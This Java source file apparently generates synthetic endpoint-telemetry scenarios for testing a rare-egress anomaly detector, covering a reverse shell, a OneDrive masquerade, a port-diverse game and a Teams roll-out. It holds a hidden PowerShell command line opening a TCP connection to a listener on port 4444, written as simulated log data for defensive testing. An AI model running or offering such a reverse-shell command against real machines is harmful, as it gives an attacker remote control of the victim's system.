package org.rareegress.simulate;

import static org.rareegress.simulate.Catalog.binary;
import static org.rareegress.simulate.Catalog.launch;
import static org.rareegress.simulate.Flow.out;
import static org.rareegress.simulate.PlantedTool.Expect.PREVALENT;
import static org.rareegress.simulate.PlantedTool.Expect.RARE;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * The stories of the refined dimensions (docs/dimensions.md), planted with {@code simulate --dimension-cases}:
 * programs that run on every device, so the seed ({@code process}) never alerts them, and on one device, late
 * in the history, what only a refined key shows:
 * <ul>
 *   <li>a reverse shell: powershell.exe, which every device runs to port 5985, to port 4444 from one device
 *       ({@code process-port});</li>
 *   <li>a masquerade (MITRE T1036.005): an OneDrive.exe whose binary no other device has, connecting where the
 *       real one connects ({@code process-hash});</li>
 *   <li>a port-diverse program, game.exe, a new high port per connection: not informative, silent;</li>
 *   <li>a roll-out: Teams.exe moving to a new version on every device within a few hours, silent with
 *       {@code alert.confirm-after.process-hash=PT6H}.</li>
 * </ul>
 * Times are fractions of the history, after the default warm-up of a 35-day history (30 days, 0.857), so the
 * stories are judged, not learned.
 */
final class DimensionCatalog {
    /** Every device: {@link ToolPlan#deviceCount} caps it at the fleet size. */
    private static final int EVERY_DEVICE = Integer.MAX_VALUE;
    private static final String SUCCESS = "ConnectionSuccess";
    private static final String LIMITED = "TokenElevationTypeLimited";
    private static final String[] AZURE = {"20.190", "40.126", "52.113"};
    private static final String[] VPS = {"185.141", "45.137", "91.215"};
    private static final double ROLLOUT_FROM = 0.88;
    /** 0.25 % of the history: 2.1 hours of 35 days, 3.6 hours of 60, inside a 6-hour confirmation. */
    private static final double ROLLOUT_TO = 0.8825;

    private DimensionCatalog() {
    }

    static List<ToolPlan> build(Rng rng) {
        List<Target> azure = List.of(pub(rng, AZURE), pub(rng, AZURE), pub(rng, AZURE));
        Target listener = pub(rng, VPS);
        App powershell = user("powershell.exe", binary("Microsoft® Windows® Operating System", "10.0.19041.3570",
                        "Windows PowerShell", 450_560),
                "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
                "powershell.exe -NoProfile -File C:\\ProgramData\\Contoso\\inventory.ps1", "svchost.exe",
                out(1, SUCCESS, "Tcp", azure, 5985));
        App reverseShell = user("powershell.exe", powershell.binary(),
                "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
                "powershell.exe -nop -w hidden -c \"$c=New-Object Net.Sockets.TCPClient('" + listener.ip() + "',4444)\"",
                "winword.exe", out(1, SUCCESS, "Tcp", List.of(listener), 4444));
        App.Binary oneDriveBinary = binary("Microsoft OneDrive", "24.010.0114.0003", "Microsoft OneDrive", 3_654_000);
        String oneDriveFolder = "c:\\users\\{user}\\appdata\\local\\microsoft\\onedrive\\onedrive.exe";
        App oneDrive = user("OneDrive.exe", oneDriveBinary, oneDriveFolder,
                "\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", "explorer.exe",
                out(1, SUCCESS, "Tcp", azure, 9000));
        // Another file under the same name and product, its version written another way (forged version info):
        // a SHA256 and MD5 no other device has.
        App masquerade = user("OneDrive.exe", binary("Microsoft OneDrive", "24.10.114.3", "Microsoft OneDrive",
                        1_204_224), "c:\\users\\{user}\\appdata\\local\\temp\\onedrive.exe",
                "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\OneDrive.exe\" /background", "explorer.exe",
                out(1, SUCCESS, "Tcp", azure, 9000));
        App game = user("game.exe", binary("Contoso Arena", "3.1.4", "Contoso Arena", 88_080_384),
                "c:\\program files\\contoso arena\\game.exe", "\"C:\\Program Files\\Contoso Arena\\game.exe\"",
                "explorer.exe", out(1, SUCCESS, "Tcp", List.of(pub(rng, VPS), pub(rng, VPS)), highPorts(rng, 400)));
        App.Binary teamsOld = binary("Microsoft Teams", "1.6.00.35961", "Microsoft Teams", 129_912_160);
        App.Binary teamsNew = binary("Microsoft Teams", "1.7.00.4301", "Microsoft Teams", 131_004_416);
        String teamsFolder = "c:\\users\\{user}\\appdata\\local\\microsoft\\teams\\current\\teams.exe";
        String teamsCommand = "\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --system-initiated";
        Flow teamsRelay = out(1, SUCCESS, "Tcp", azure, 3478);
        return List.of(
                ToolPlan.steady("fleet-powershell", powershell, PREVALENT,
                        "an inventory script on every device, to Azure on 5985", EVERY_DEVICE, 0.0, 1.0,
                        Duration.ofHours(4), 0.5, false),
                ToolPlan.steady("reverse-shell", reverseShell, RARE,
                        "a reverse shell: powershell.exe (on every device) to port 4444, which no other device uses "
                                + "with it, from one device late in the history", 1, 0.90, 0.92,
                        Duration.ofMinutes(15), 0.3, false).expecting(RARE, "process-port"),
                ToolPlan.steady("fleet-onedrive", oneDrive, PREVALENT, "OneDrive.exe on every device, to Azure on 9000",
                        EVERY_DEVICE, 0.0, 1.0, Duration.ofHours(2), 0.5, false),
                ToolPlan.steady("masquerade", masquerade, RARE,
                        "a masquerade (T1036.005): an OneDrive.exe from the temp folder whose SHA256 no other device "
                                + "has, connecting where the real one does, on one device late in the history", 1,
                        0.93, 0.96, Duration.ofMinutes(30), 0.3, false).expecting(RARE, "process-hash"),
                ToolPlan.steady("port-diverse", game, PREVALENT,
                        "a game on every device, a new high port per connection: beyond "
                                + "detector.max-values-per-process ports, process-port is not informative for it",
                        EVERY_DEVICE, 0.0, 1.0, Duration.ofHours(1), 0.5, false).expecting(PREVALENT, "process-port"),
                ToolPlan.steady("fleet-teams", user("Teams.exe", teamsOld, teamsFolder, teamsCommand, "Update.exe",
                                teamsRelay), PREVALENT, "Teams.exe on every device, to Azure on TCP 3478, until its update",
                        EVERY_DEVICE, 0.0, 0.89, Duration.ofHours(2), 0.5, false),
                new ToolPlan("teams-rollout", user("Teams.exe", teamsNew, teamsFolder, teamsCommand, "Update.exe",
                        teamsRelay), PREVALENT, "a new Teams.exe version reaching every device within a few hours: "
                        + "a rare hash for a while, silent with alert.confirm-after.process-hash=PT6H (alerted without it)",
                        EVERY_DEVICE, ROLLOUT_FROM, 1.0, Duration.ofHours(1), 0.5, false, ROLLOUT_FROM, ROLLOUT_TO, 1.0,
                        "process-hash"));
    }

    private static Target pub(Rng rng, String[] networks) {
        return Target.of(Pools.address(rng, networks), "Public", "");
    }

    private static int[] highPorts(Rng rng, int count) {
        List<Integer> ports = new ArrayList<>();
        while (ports.size() < count) {
            int port = 20_000 + rng.nextInt(40_000);
            if (!ports.contains(port)) {
                ports.add(port);
            }
        }
        return ports.stream().mapToInt(Integer::intValue).toArray();
    }

    private static App user(String fileName, App.Binary binary, String folder, String commandLine, String parent,
                            Flow flow) {
        return App.of(List.of(fileName), binary, launch(folder, commandLine, parent, Account.USER, "Medium", LIMITED),
                List.of(flow), 0, 0, 1);
    }
}
